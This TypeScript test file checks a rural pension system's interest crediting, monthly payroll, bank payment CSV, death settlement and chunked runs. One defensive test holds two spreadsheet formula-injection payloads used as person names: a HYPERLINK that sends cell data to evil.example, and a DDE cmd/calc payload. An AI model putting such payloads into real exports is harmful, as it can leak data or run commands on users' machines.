import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FUND, SOURCES, personAccountId } from '../ledger/index.js';
import { parseScenario, simulate } from '../policy/index.js';
import { citizenNumberFor, openTestStack, personInput, TEST_OPERATOR, testUuid, type TestStack } from '../registry/test-support.js';
import { isUuidV7 } from '../registry/ids.js';
import { shanghaiNoonIso } from '../registry/time.js';
import { isRunError } from './errors.js';
import { legacyPayrollTransferId, payrollTransferId, type PayrollIdPart } from './payroll.js';

const WORKED = citizenNumberFor('1960-05-20', 1);
const RATE_BP: Record<number, number> = { 2010: 275, 2011: 350, 2012: 300, 2013: 300, 2014: 275 };

/** POLICY.md worked example by hand: per source, interest on the 1 January balance, half-up, then that year's credit. */
function workedExampleBalanceByHand(): { individual: number; government: number } {
  let individual = 0;
  let government = 0;
  const interest = (b: number, bp: number) => Math.floor((b * bp + 5_000) / 10_000);
  for (let year = 2010; year <= 2019; year++) {
    const bp = RATE_BP[year] ?? 150;
    const ii = interest(individual, bp);
    const gi = interest(government, bp);
    individual += 10_000 + ii; // 100 yuan, paid 1 September
    government += 3_000 + gi; // 30 yuan subsidy
  }
  return { individual, government };
}

function count(stack: TestStack, table: string): number {
  return (stack.db.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get() as { n: number }).n;
}

function transferCount(stack: TestStack): number {
  return stack.ledger.verify().transfers;
}

function payments(stack: TestStack, cn: string): { month: string; status: string; total_fen: number }[] {
  return stack.db.prepare('SELECT month, status, total_fen FROM reg_payments WHERE citizen_number = ? ORDER BY month').all(cn) as never;
}

let stack: TestStack;

/** The worked example's person with ten years paid and the interest of 2010-2019 credited. */
function setUpWorkedExample(): void {
  stack.setToday('2020-01-05');
  stack.registry.persons.registerPerson(personInput(WORKED, '1960-05-20', { bankAccount: '6222000000000001' }), TEST_OPERATOR);
  for (let year = 2010; year <= 2019; year++) {
    stack.registry.recordContribution({ id: testUuid(`${year}-09-01`), citizenNumber: WORKED, year, tierYuan: 100, channel: 'counter', paidAt: `${year}-09-01T10:00:00+08:00` }, { historical: true });
  }
  for (let year = 2010; year <= 2019; year++) stack.runs.interest(year);
}

beforeEach(() => {
  stack = openTestStack({ today: '2020-01-05' });
  stack.registry.persons.createVillage({ code: 'V001', name: '上坝村' });
});
afterEach(() => stack.close());

describe('the yearly interest run', () => {
  beforeEach(() => {
    stack.registry.persons.registerPerson(personInput(WORKED, '1960-05-20'), TEST_OPERATOR);
    stack.registry.recordContribution({ id: testUuid('2010-09-01'), citizenNumber: WORKED, year: 2010, tierYuan: 100, channel: 'counter', paidAt: '2010-09-01T10:00:00+08:00' }, { historical: true });
  });

  it('credits nothing for money paid during the year, and rate × 1 January balance per source the next year', () => {
    expect(stack.runs.interest(2010).totalFen).toBe(0);
    const summary = stack.runs.interest(2011);
    // 2011 rate 3.50%: 10 000 × 0.035 = 350; 3 000 × 0.035 = 105.
    expect(summary.interestFen).toEqual({ individual: 350, collective: 0, aid: 0, legacy: 0, government: 105 });
    expect(stack.ledger.balance(personAccountId(WORKED, 'individual')).balanceFen).toBe(10_350);
  });

  it('credits a year once however often it runs', () => {
    stack.runs.interest(2011);
    const before = transferCount(stack);
    const again = stack.runs.interest(2011);
    expect(again.transfers).toEqual({ created: 0, exists: 2 });
    expect(transferCount(stack)).toBe(before);
    expect(stack.ledger.balance(personAccountId(WORKED, 'government')).balanceFen).toBe(3_105);
  });

  it('shows a dry run and writes nothing', () => {
    stack.runs.interest(2011);
    const before = transferCount(stack);
    const dry = stack.runs.interest(2012, { dryRun: true });
    // 2012 rate 3.00%: 10 350 × 0.03 = 310.5 -> 311 (half up); 3 105 × 0.03 = 93.15 -> 93.
    expect(dry.interestFen.individual).toBe(311);
    expect(dry.interestFen.government).toBe(93);
    expect(dry.dryRun).toBe(true);
    expect(transferCount(stack)).toBe(before);
    expect(count(stack, 'reg_runs')).toBe(1);
    expect(stack.runs.interest(2012).interestFen).toEqual(dry.interestFen);
  });

  it('refuses to credit a year before its 31 December', () => {
    let error: unknown;
    try {
      stack.runs.interest(2020);
    } catch (e) {
      error = e;
    }
    expect(isRunError(error) && error.code).toBe('run-in-future');
  });
});

describe('the monthly payroll', () => {
  beforeEach(setUpWorkedExample);

  it('starts the worked example pension in 2020-06 with the account pension the policy engine computes', () => {
    const hand = workedExampleBalanceByHand();
    expect(stack.ledger.balance(personAccountId(WORKED, 'individual')).balanceFen).toBe(hand.individual);
    expect(stack.ledger.balance(personAccountId(WORKED, 'government')).balanceFen).toBe(hand.government);
    const accountFen = Math.floor(((hand.individual + hand.government) * 2 + 139) / 278); // round_half_up(balance / 139)
    const simulated = simulate(parseScenario(JSON.parse(readFileSync(new URL('../policy/scenarios/worked-example.json', import.meta.url), 'utf8'))));
    expect(simulated.pension?.accountFen).toBe(accountFen);

    stack.setToday('2020-05-15');
    expect(stack.runs.payroll('2020-05').pensionsStarted).toBe(0);
    stack.setToday('2020-06-15');
    const summary = stack.runs.payroll('2020-06');
    expect(summary.pensionsStarted).toBe(1);
    expect(summary.lines).toEqual([
      expect.objectContaining({ citizenNumber: WORKED, monthsPaid: ['2020-06'], totalFen: 5_500 + accountFen, fromAccountFen: accountFen, fromPoolFen: 5_500 }),
    ]);
    const after = stack.ledger.balance(personAccountId(WORKED, 'individual')).balanceFen + stack.ledger.balance(personAccountId(WORKED, 'government')).balanceFen;
    expect(after).toBe(hand.individual + hand.government - accountFen);
    expect(stack.ledger.balance(FUND.payout).creditsFen).toBe(5_500 + accountFen);
  });

  it('pays the pooled part of a chunk in one transfer that sums its payments, and the account part per person', () => {
    const elder = citizenNumberFor('1944-02-02', 31);
    stack.setToday('2020-06-15');
    stack.registry.persons.registerPerson(personInput(elder, '1944-02-02'), TEST_OPERATOR);
    const summary = stack.runs.payroll('2020-06');
    expect(summary.paidPersons).toBe(2);
    const runTransfers = stack.ledger.transfers({ from: '2020-06-01', limit: 10_000 }).filter((x) => x.meta?.runKey === 'payroll:2020-06');
    const pooled = runTransfers.filter((x) => x.code === 'pension.pooled');
    const rows = stack.db
      .prepare("SELECT citizen_number, SUM(from_pool_fen) AS pool FROM reg_payments WHERE paid_run_key = 'payroll:2020-06' GROUP BY citizen_number ORDER BY citizen_number")
      .all() as { citizen_number: string; pool: number }[];
    expect(rows).toHaveLength(2);
    // One transfer from the pooled fund for the chunk: the sum of the payments' pooled parts, naming who it covers.
    expect(pooled).toHaveLength(1);
    expect(pooled[0]).toMatchObject({
      debitAccountId: FUND.pooled,
      creditAccountId: FUND.payout,
      amountFen: rows.reduce((sum, r) => sum + r.pool, 0),
      meta: { runKey: 'payroll:2020-06', month: '2020-06', persons: 2, firstCitizen: rows[0]!.citizen_number, lastCitizen: rows[1]!.citizen_number },
    });
    expect(pooled[0]!.amountFen).toBe(summary.fromPoolFen);
    // The account pension: per person, from their own source accounts, with the payment id of the bank file.
    const drawn = runTransfers.filter((x) => x.code === 'pension.account');
    expect(drawn.length).toBeGreaterThan(0);
    for (const x of drawn) expect(x).toMatchObject({ creditAccountId: FUND.payout, meta: { citizenNumber: WORKED, paymentId: summary.lines.find((l) => l.citizenNumber === WORKED)!.paymentId } });
    expect(drawn.reduce((sum, x) => sum + x.amountFen, 0)).toBe(summary.fromAccountFen);
    expect(runTransfers).toHaveLength(pooled.length + drawn.length);
    expect(stack.ledger.balance(FUND.payout).creditsFen).toBe(summary.totalFen);
    expect(stack.ledger.verify().ok).toBe(true);
    // The re-run has nothing to pay, so no chunk transfer either.
    const transfers = transferCount(stack);
    expect(stack.runs.payroll('2020-06').paidPersons).toBe(0);
    expect(transferCount(stack)).toBe(transfers);
  });

  it('pays nobody twice when a month runs twice', () => {
    stack.setToday('2020-06-15');
    const first = stack.runs.payroll('2020-06');
    const transfers = transferCount(stack);
    const payout = stack.ledger.balance(FUND.payout).creditsFen;
    const second = stack.runs.payroll('2020-06');
    expect(second.paidPersons).toBe(0);
    expect(second.alreadyDecidedPersons).toBe(1);
    expect(second.totalFen).toBe(0);
    expect(transferCount(stack)).toBe(transfers);
    expect(stack.ledger.balance(FUND.payout).creditsFen).toBe(payout);
    expect(payments(stack, WORKED)).toEqual([{ month: '2020-06', status: 'paid', total_fen: first.totalFen }]);
    expect([...stack.runs.bankFile('2020-06')]).toHaveLength(2);
  });

  it('shows a dry run that a real run then does, and the dry run writes nothing', () => {
    stack.setToday('2020-06-15');
    const tables = ['reg_pensions', 'reg_payments', 'reg_runs'].map((t) => count(stack, t));
    const transfers = transferCount(stack);
    const dry = stack.runs.payroll('2020-06', { dryRun: true });
    expect(dry.paidPersons).toBe(1);
    expect(['reg_pensions', 'reg_payments', 'reg_runs'].map((t) => count(stack, t))).toEqual(tables);
    expect(transferCount(stack)).toBe(transfers);
    const real = stack.runs.payroll('2020-06');
    expect({ ...real, dryRun: true }).toEqual(dry);
  });

  it('writes the bank payment file with one line per payment', () => {
    stack.setToday('2020-06-15');
    const summary = stack.runs.payroll('2020-06');
    const lines = [...stack.runs.bankFile('2020-06')];
    const line = summary.lines[0]!;
    expect(lines[0]).toBe('paymentId,citizenNumber,name,bankAccount,amountFen,amountYuan,months\r\n');
    const yuan = `${Math.floor(line.totalFen / 100)}.${String(line.totalFen % 100).padStart(2, '0')}`;
    expect(lines[1]).toBe(`${line.paymentId},${WORKED},张三丰,6222000000000001,${line.totalFen},${yuan},2020-06\r\n`);
  });

  it('writes a name a spreadsheet would run as a formula as text in the bank file (issue 10 section 5)', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const command = "+cmd|' /C calc'!A0";
    const a = citizenNumberFor('1944-02-02', 50);
    const b = citizenNumberFor('1944-02-02', 51);
    stack.setToday('2020-06-15');
    stack.registry.persons.registerPerson(personInput(a, '1944-02-02', { name: hyperlink }), TEST_OPERATOR);
    stack.registry.persons.registerPerson(personInput(b, '1944-02-02', { name: command }), TEST_OPERATOR);
    stack.runs.payroll('2020-06');
    const rows = parse([...stack.runs.bankFile('2020-06')].join(''), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    const names = Object.fromEntries(rows.map((r) => [r.citizenNumber, r.name]));
    expect(names[a]).toBe(`'${hyperlink}`);
    expect(names[b]).toBe(`'${command}`);
    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('suspends months without proof of life and pays them back after a certification (POLICY: certBackPay)', () => {
    // The start counts as certifying on 2020-06-01: it holds through 2021-06.
    stack.setToday('2021-08-15');
    const lapsed = stack.runs.payroll('2021-08');
    expect(lapsed.suspendedCertificationMonths).toBe(2);
    expect(lapsed.lines[0]!.monthsPaid).toEqual(['2020-06', '2020-07', '2020-08', '2020-09', '2020-10', '2020-11', '2020-12', '2021-01', '2021-02', '2021-03', '2021-04', '2021-05', '2021-06']);
    expect(stack.registry.accountStatement(WORKED).pension.status).toBe('suspended-certification');

    stack.setToday('2021-09-10');
    stack.registry.recordCertification({ id: testUuid('2021-09-10'), citizenNumber: WORKED, certifiedOn: '2021-09-10', channel: 'kiosk', terminalId: 'kiosk-001' });
    const released = stack.runs.payroll('2021-09');
    expect(released.backPaidMonths).toBe(2);
    expect(released.lines[0]!.monthsPaid).toEqual(['2021-07', '2021-08', '2021-09']);
    expect(payments(stack, WORKED).filter((p) => p.status !== 'paid')).toEqual([]);
    // The back pay is in this month's bank file, in one line with this month.
    expect([...stack.runs.bankFile('2021-09')][1]).toContain(',2021-07 2021-08 2021-09\r\n');
    // Running the month again pays the back pay no second time.
    expect(stack.runs.payroll('2021-09').paidMonths).toBe(0);
    expect(stack.registry.accountStatement(WORKED).pension.status).toBe('paid');
  });

  it('settles a death reported late: months after it come back from the inheritance, the government share goes to the pool', () => {
    stack.setToday('2020-08-15');
    stack.runs.payroll('2020-08'); // pays 2020-06 .. 2020-08; the death on 2020-07-10 is not known yet
    const monthly = payments(stack, WORKED)[0]!.total_fen;
    stack.registry.persons.reportDeath({ citizenNumber: WORKED, deathDate: '2020-07-10', reportedOn: '2020-08-20' });
    stack.setToday('2020-08-21');
    const account = Object.fromEntries(SOURCES.map((s) => [s, stack.ledger.balance(personAccountId(WORKED, s)).balanceFen]));
    const dry = stack.runs.deathSettlement({ dryRun: true });
    expect(stack.ledger.balance(FUND.inheritancesPayable).balanceFen).toBe(0);
    const summary = stack.runs.deathSettlement();
    expect({ ...summary, dryRun: true }).toEqual(dry);
    const line = summary.lines[0]!;
    expect(line.paidAfterDeathMonths).toEqual(['2020-08']);
    expect(line.paidAfterDeathFen).toBe(monthly);
    // The August account draw returns to the account before it is split.
    const whole = (account.individual ?? 0) + (account.government ?? 0) + line.returnedToAccountFen;
    expect(line.inheritableFen + line.toPoolFen).toBe(whole);
    expect(line.toPoolFen).toBeGreaterThan(0);
    expect(line.recoveredFen).toBe(monthly);
    expect(line.unrecoveredFen).toBe(0);
    for (const source of SOURCES) expect(stack.ledger.balance(personAccountId(WORKED, source)).balanceFen).toBe(0);
    expect(stack.ledger.balance(FUND.inheritancesPayable).balanceFen).toBe(line.inheritableFen - line.recoveredFen);
    // Settled once; no pension after the death.
    expect(stack.runs.deathSettlement().settled).toBe(0);
    stack.setToday('2020-09-15');
    expect(stack.runs.payroll('2020-09').paidPersons).toBe(0);
    expect(stack.ledger.verify().ok).toBe(true);
  });

  it('stops the pension of an urban pensioner and makes what was paid since then an amount to recover', () => {
    stack.setToday('2020-08-15');
    stack.runs.payroll('2020-08');
    const monthly = payments(stack, WORKED)[0]!.total_fen;
    stack.registry.persons.reportUrbanPension({ citizenNumber: WORKED, since: '2020-07-01', reportedOn: '2020-09-05' });
    stack.setToday('2020-09-15');
    const finding = stack.runs.urbanPensionFindings();
    expect(finding.lines).toEqual([{ citizenNumber: WORKED, since: '2020-07-01', stopFromMonth: '2020-09', improperMonths: ['2020-07', '2020-08'], recoverFen: 2 * monthly }]);
    expect(stack.ledger.balance(FUND.toRecover).balanceFen).toBe(2 * monthly);
    expect(stack.runs.urbanPensionFindings().found).toBe(0);
    expect(stack.runs.payroll('2020-09').paidPersons).toBe(0);
    expect(stack.registry.accountStatement(WORKED).pension.status).toBe('stopped');
  });
});

describe('payroll transfer ids (issue 5 sections 4 and 7)', () => {
  const PARTS: PayrollIdPart[] = ['payment', ...SOURCES.map((s) => `draw:${s}` as const)];
  // Citizen numbers in string order, one with the check character X (and one whose first 17 digits it shares but a digit).
  const CITIZENS = [
    citizenNumberFor('1950-01-01', 1, '110000'),
    citizenNumberFor('1950-01-01', 2, '110000'),
    '11000019500101003X',
    '110000195001010030',
    citizenNumberFor('1961-12-31', 999, '510322'),
    citizenNumberFor('1944-02-02', 31, '659001'),
  ].sort();

  it('are UUIDv7, the same for the same inputs, and sort in the order a run writes them (citizen, then part)', () => {
    const ids = CITIZENS.flatMap((cn) => PARTS.map((part) => payrollTransferId('payroll:2024-05', '2024-05', cn, part)));
    for (const id of ids) expect(isUuidV7(id)).toBe(true);
    expect(new Set(ids).size).toBe(CITIZENS.length * PARTS.length);
    expect([...ids].sort()).toEqual(ids);
    expect(CITIZENS.flatMap((cn) => PARTS.map((part) => payrollTransferId('payroll:2024-05', '2024-05', cn, part)))).toEqual(ids);
    // The month is the time part; another run key with the same time differs in the run tag.
    expect(ids[0]!.slice(0, 13)).toBe(legacyPayrollTransferId('payroll:2024-05', '2024-05', CITIZENS[0]!, 'payment').slice(0, 13));
    expect(payrollTransferId('payroll:2024-06', '2024-05', CITIZENS[0]!, 'payment')).not.toBe(ids[0]);
  });

  it('fall back to the hashed id for a citizen number of another shape', () => {
    expect(payrollTransferId('payroll:2024-05', '2024-05', '11000019500101003x', 'payment')).toBe(
      legacyPayrollTransferId('payroll:2024-05', '2024-05', '11000019500101003x', 'payment'),
    );
  });

  it('are the ids of the draws a payroll run writes, in ledger order', () => {
    setUpWorkedExample();
    stack.setToday('2020-06-15');
    stack.runs.payroll('2020-06');
    const drawn = stack.ledger.transfers({ from: '2020-06-01', limit: 100 }).filter((x) => x.code === 'pension.account');
    expect(drawn.length).toBeGreaterThan(1);
    expect(drawn.map((x) => x.id)).toEqual(
      drawn.map((x) => payrollTransferId('payroll:2020-06', '2020-06', WORKED, `draw:${SOURCES.find((s) => x.debitAccountId === personAccountId(WORKED, s))!}`)),
    );
    expect(drawn.map((x) => x.id)).toEqual(drawn.map((x) => x.id).sort());
  });

  it('let the death settlement refer to a draw paid before ids were ordered (hashed id)', () => {
    setUpWorkedExample();
    stack.setToday('2020-07-15');
    stack.runs.payroll('2020-07');
    // A 2020-08 payment as a run before the change wrote it: the draw carries the hashed id.
    const legacyId = legacyPayrollTransferId('payroll:2020-08', '2020-08', WORKED, 'draw:individual');
    expect(legacyId).not.toBe(payrollTransferId('payroll:2020-08', '2020-08', WORKED, 'draw:individual'));
    stack.setToday('2020-08-15');
    stack.db.transaction(() => {
      const [created] = stack.ledger.createTransfers([
        { id: legacyId, debitAccountId: personAccountId(WORKED, 'individual'), creditAccountId: FUND.payout, amountFen: 100, code: 'pension.account', at: shanghaiNoonIso('2020-08-01') },
      ]);
      expect(created!.result).toBe('created');
      stack.db
        .prepare(
          `INSERT INTO reg_payments (citizen_number, month, status, basic_fen, top_up_fen, from_account_fen, from_pool_fen, total_fen, draw_json, payment_id, paid_run_key, run_key)
           VALUES (?, '2020-08', 'paid', 5500, 0, 100, 5500, 5600, '{"individual":100}', NULL, 'payroll:2020-08', 'payroll:2020-08')`,
        )
        .run(WORKED);
      stack.db.prepare("UPDATE reg_pensions SET decided_through = '2020-08' WHERE citizen_number = ?").run(WORKED);
    })();
    stack.registry.persons.reportDeath({ citizenNumber: WORKED, deathDate: '2020-07-10', reportedOn: '2020-08-20' });
    stack.setToday('2020-08-21');
    const summary = stack.runs.deathSettlement();
    expect(summary.lines[0]!.paidAfterDeathMonths).toEqual(['2020-08']);
    const returned = stack.ledger.transfers({ from: '2020-08-01', limit: 100 }).filter((x) => x.code === 'correction');
    expect(returned).toEqual([expect.objectContaining({ reference: legacyId, creditAccountId: personAccountId(WORKED, 'individual'), amountFen: 100 })]);
    expect(stack.ledger.verify().ok).toBe(true);
  });
});

describe('a payroll that would pay someone without a bank account (issue 10 section 5)', () => {
  beforeEach(setUpWorkedExample);
  function refusal(work: () => unknown): unknown {
    try {
      work();
    } catch (error) {
      return error;
    }
    return undefined;
  }

  it('is refused, dry or real, before any money moves, naming whom to fix; then it pays everyone', () => {
    stack.setToday('2020-06-15');
    const withAccount = citizenNumberFor('1944-02-02', 52);
    const without = [citizenNumberFor('1944-02-02', 53), citizenNumberFor('1944-02-02', 54)];
    stack.registry.persons.registerPerson(personInput(withAccount, '1944-02-02'), TEST_OPERATOR);
    for (const cn of without) stack.registry.persons.registerPerson(personInput(cn, '1944-02-02', { bankAccount: undefined }), TEST_OPERATOR);
    const transfers = transferCount(stack);
    for (const dryRun of [true, false]) {
      const error = refusal(() => stack.runs.payroll('2020-06', { dryRun }));
      expect(isRunError(error), String(error)).toBe(true);
      expect(error).toMatchObject({ code: 'bank-account-missing', status: 422, details: { citizenNumbers: without, count: 2 } });
    }
    expect(transferCount(stack)).toBe(transfers);
    expect(count(stack, 'reg_payments')).toBe(0);
    expect(stack.ledger.balance(FUND.payout).creditsFen).toBe(0);

    for (const [i, cn] of without.entries()) stack.registry.persons.setBankAccount(cn, { bankAccount: `622200000000010${i}` });
    const summary = stack.runs.payroll('2020-06');
    expect(summary.paidPersons).toBe(4);
    expect([...stack.runs.bankFile('2020-06')].slice(1).every((line) => /^[^,]+,[^,]+,[^,]+,\d{8,32},/.test(line))).toBe(true);
  });

  it('is not refused for a pensioner without an account whom this run does not pay, and is when it would pay them back', () => {
    stack.setToday('2021-08-15');
    expect(stack.runs.payroll('2021-08').suspendedCertificationMonths).toBe(2);
    // An account cleared since (the office has no way to do it today; older data can hold it).
    stack.db.prepare('UPDATE reg_persons SET bank_account = NULL WHERE citizen_number = ?').run(WORKED);
    stack.setToday('2021-09-15');
    expect(stack.runs.payroll('2021-09')).toMatchObject({ paidPersons: 0, suspendedCertificationMonths: 1 });
    stack.setToday('2021-10-10');
    stack.registry.recordCertification({ id: testUuid('2021-10-10'), citizenNumber: WORKED, certifiedOn: '2021-10-10', channel: 'counter' });
    expect(refusal(() => stack.runs.payroll('2021-10'))).toMatchObject({ code: 'bank-account-missing', details: { citizenNumbers: [WORKED], count: 1 } });
    expect(payments(stack, WORKED).filter((p) => p.month >= '2021-07').map((p) => p.status)).toEqual(['suspended-certification', 'suspended-certification', 'suspended-certification']);
  });

  it('stops at the chunk of a person whose back pay a certification released during the run', async () => {
    const s = openTestStack({ today: '2011-10-15', chunkPersons: 1 });
    try {
      s.registry.persons.createVillage({ code: 'V001', name: '上坝村' });
      const elders = [0, 1, 2].map((i) => citizenNumberFor('1944-02-02', 70 + i));
      for (const cn of elders) s.registry.persons.registerPerson(personInput(cn, '1944-02-02'), TEST_OPERATOR);
      // Certified through 2011-08 by the start (2010-08): 2011-09 and 2011-10 are suspended.
      expect(s.runs.payroll('2011-10').suspendedCertificationMonths).toBe(6);
      const last = elders[2]!;
      s.db.prepare('UPDATE reg_persons SET bank_account = NULL WHERE citizen_number = ?').run(last);
      s.setToday('2011-11-15');
      for (const cn of elders.slice(0, 2)) s.registry.recordCertification({ id: testUuid('2011-11-15'), citizenNumber: cn, certifiedOn: '2011-11-15', channel: 'counter' });
      const run = s.runs.payrollInTurns('2011-11');
      const paidFirst = s.db.prepare("SELECT COUNT(*) AS n FROM reg_payments WHERE citizen_number = ? AND paid_run_key = 'payroll:2011-11'");
      for (let turn = 0; turn < 1_000 && (paidFirst.get(elders[0]) as { n: number }).n === 0; turn++) await new Promise((resolve) => setImmediate(resolve));
      s.registry.recordCertification({ id: testUuid('2011-11-15'), citizenNumber: last, certifiedOn: '2011-11-15', channel: 'counter' });
      await expect(run).rejects.toMatchObject({ code: 'bank-account-missing', details: { citizenNumbers: [last], count: 1 } });
      const paidOf = (cn: string) => (s.db.prepare("SELECT COUNT(*) AS n FROM reg_payments WHERE citizen_number = ? AND paid_run_key = 'payroll:2011-11'").get(cn) as { n: number }).n;
      expect(paidOf(elders[0]!)).toBe(3);
      expect(paidOf(last)).toBe(0);
      expect(s.ledger.verify().ok).toBe(true);
    } finally {
      s.close();
    }
  });
});

describe('family binding (POLICY: aged 60+ at the scheme start)', () => {
  it('suspends the elder until every household member who may enrol has paid, without back pay', () => {
    const elder = citizenNumberFor('1945-03-03', 21);
    const son = citizenNumberFor('1975-04-04', 22);
    stack.setToday('2010-07-10');
    stack.registry.persons.registerPerson(personInput(elder, '1945-03-03', { householdId: 'H1' }), TEST_OPERATOR);
    stack.registry.persons.registerPerson(personInput(son, '1975-04-04', { householdId: 'H1' }), TEST_OPERATOR);
    stack.setToday('2010-08-15');
    const suspended = stack.runs.payroll('2010-08');
    expect(suspended.pensionsStarted).toBe(1);
    expect(suspended.suspendedFamilyBindingMonths).toBe(1);
    expect(suspended.paidPersons).toBe(0);
    stack.setToday('2010-09-15');
    stack.registry.recordContribution({ id: testUuid('2010-09-15'), citizenNumber: son, year: 2010, tierYuan: 200, channel: 'counter', paidAt: '2010-09-15T09:00:00+08:00' }, { historical: true });
    const paid = stack.runs.payroll('2010-09');
    expect(paid.lines[0]).toMatchObject({ citizenNumber: elder, monthsPaid: ['2010-09'], totalFen: 5_500, fromPoolFen: 5_500 });
    expect(payments(stack, elder)).toEqual([
      { month: '2010-08', status: 'suspended-family-binding', total_fen: 0 },
      { month: '2010-09', status: 'paid', total_fen: 5_500 },
    ]);
  });
});

describe('runs in turns (how the server runs them)', () => {
  const ELDERS = 5;
  /** A stack with chunks of two persons and ELDERS people aged 60+ at the scheme start (basic pension). */
  function eldersStack(): TestStack {
    const s = openTestStack({ today: '2020-06-15', chunkPersons: 2 });
    s.registry.persons.createVillage({ code: 'V001', name: '上坝村' });
    for (let i = 0; i < ELDERS; i++) s.registry.persons.registerPerson(personInput(citizenNumberFor('1944-02-02', 40 + i), '1944-02-02'), TEST_OPERATOR);
    return s;
  }
  let elders: TestStack;
  beforeEach(() => {
    elders = eldersStack();
  });
  afterEach(() => elders.close());

  /** Counts event-loop turns (setImmediate callbacks) until stopped. */
  function countTurns(): { stop: () => number } {
    let turns = 0;
    let running = true;
    const tick = (): void => {
      if (!running) return;
      turns += 1;
      setImmediate(tick);
    };
    setImmediate(tick);
    return {
      stop: () => {
        running = false;
        return turns;
      },
    };
  }

  it('gives the event loop a turn after each chunk and pays what a run in one go pays', async () => {
    const turns = countTurns();
    const inTurns = await elders.runs.payrollInTurns('2020-06');
    // Chunks of 2 over 5 persons: 3 chunks fixing pensions, 3 paying them.
    expect(turns.stop()).toBeGreaterThanOrEqual(6);
    const inOneGo = eldersStack();
    try {
      const turnsOfOneGo = countTurns();
      expect(inOneGo.runs.payroll('2020-06')).toEqual(inTurns);
      expect(turnsOfOneGo.stop()).toBe(0);
    } finally {
      inOneGo.close();
    }
    expect(inTurns.paidPersons).toBe(ELDERS);
    expect(elders.ledger.balance(FUND.payout).creditsFen).toBe(inTurns.totalFen);
    expect(elders.ledger.verify().ok).toBe(true);
  });

  it('credits interest in turns as in one go', async () => {
    for (let i = 0; i < ELDERS; i++) {
      const cn = citizenNumberFor('1970-01-01', 60 + i);
      elders.registry.persons.registerPerson(personInput(cn, '1970-01-01'), TEST_OPERATOR);
      elders.registry.recordContribution({ id: testUuid('2018-09-01'), citizenNumber: cn, year: 2018, tierYuan: 100, channel: 'counter', paidAt: '2018-09-01T10:00:00+08:00' }, { historical: true });
    }
    const turns = countTurns();
    const summary = await elders.runs.interestInTurns(2019);
    expect(turns.stop()).toBeGreaterThanOrEqual(5);
    expect(summary.persons).toBe(2 * ELDERS);
    expect(summary.creditedPersons).toBe(ELDERS);
    expect(elders.runs.interest(2019)).toMatchObject({ totalFen: summary.totalFen, transfers: { created: 0, exists: summary.transfers.created } });
  });

  it('refuses any other run while one is in progress, and runs again once it has ended', async () => {
    const payroll = elders.runs.payrollInTurns('2020-06');
    const refused = (fn: () => unknown) => {
      try {
        fn();
      } catch (error) {
        return error;
      }
      return undefined;
    };
    expect(refused(() => elders.runs.interest(2019))).toMatchObject({ code: 'run-in-progress', status: 409 });
    expect(refused(() => elders.runs.deathSettlement())).toMatchObject({ code: 'run-in-progress' });
    await expect(elders.runs.payrollInTurns('2020-06')).rejects.toMatchObject({ code: 'run-in-progress' });
    expect((await payroll).paidPersons).toBe(ELDERS);
    expect(elders.runs.payroll('2020-06')).toMatchObject({ paidPersons: 0, totalFen: 0, transfers: { created: 0 } });
  });

  it('frees the runs again after a run in turns fails', async () => {
    await expect(elders.runs.payrollInTurns('2031-01')).rejects.toMatchObject({ code: 'run-in-future' });
    expect((await elders.runs.payrollInTurns('2020-06')).paidPersons).toBe(ELDERS);
  });

  it('does a dry run in one go, inside its rolled-back transaction, and writes nothing', async () => {
    const before = ['reg_pensions', 'reg_payments', 'reg_runs'].map((t) => count(elders, t));
    const transfers = transferCount(elders);
    const turns = countTurns();
    const dry = await elders.runs.payrollInTurns('2020-06', { dryRun: true });
    expect(turns.stop()).toBe(0);
    expect(dry.paidPersons).toBe(ELDERS);
    expect(['reg_pensions', 'reg_payments', 'reg_runs'].map((t) => count(elders, t))).toEqual(before);
    expect(transferCount(elders)).toBe(transfers);
  });
});
